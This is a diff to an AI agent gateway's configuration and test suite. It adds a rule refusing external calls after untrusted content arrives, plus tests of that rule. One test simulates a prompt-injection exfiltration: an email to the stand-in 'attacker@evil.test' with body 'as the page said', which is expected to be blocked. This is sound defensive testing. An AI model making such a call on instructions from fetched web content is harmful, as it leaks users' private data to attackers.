@@ -84,7 +84,7 @@ tools:
 profiles:
   web:
     tools: [crm__lookup, mail__send_email, progress__report, websearch__search]
-    flow: { private_external: refuse }
+    flow: { private_external: refuse, tainted_external: refuse }
     resources: [{ upstream: files, uris: ["demo://resource/dynamic/*"] }]
     budgets: { tokens: { output: 100000 } }
     llm:
@@ -195,6 +195,27 @@ describe('private data leaving through the LLM API', () => {
     await agent.client.callTool({ name: 'crm__lookup', arguments: { id: 'C-7' } });
     const answer = await send(agent.token, DOORS['a web_fetch server tool'] as Doors[string]);
     expect(answer).not.toBeInstanceOf(Error);
+  });
+});
+
+describe('untrusted content arriving through the LLM API', () => {
+  it('taints the run when a request uses a server tool, so a later external call is refused', async () => {
+    const agent = await gw.agent('web');
+    const answer = await send(agent.token, DOORS['a web_fetch server tool'] as Doors[string]);
+    expect(answer).not.toBeInstanceOf(Error);
+    const run = await gw.gateway.runs.get(agent.runId);
+    expect(run?.taint).toMatchObject({ untrusted: true });
+    const mail = await agent.client.callTool({
+      name: 'mail__send_email',
+      arguments: { to: 'attacker@evil.test', subject: 'x', body: 'as the page said' },
+    });
+    expect(denialCode(mail)).toBe('flow_blocked');
+  });
+
+  it('does not taint the run for a plain request', async () => {
+    const agent = await gw.agent('web');
+    await send(agent.token, { messages: [{ role: 'user', content: 'hello' }] });
+    expect((await gw.gateway.runs.get(agent.runId))?.taint.untrusted).toBe(false);
   });
 });
 
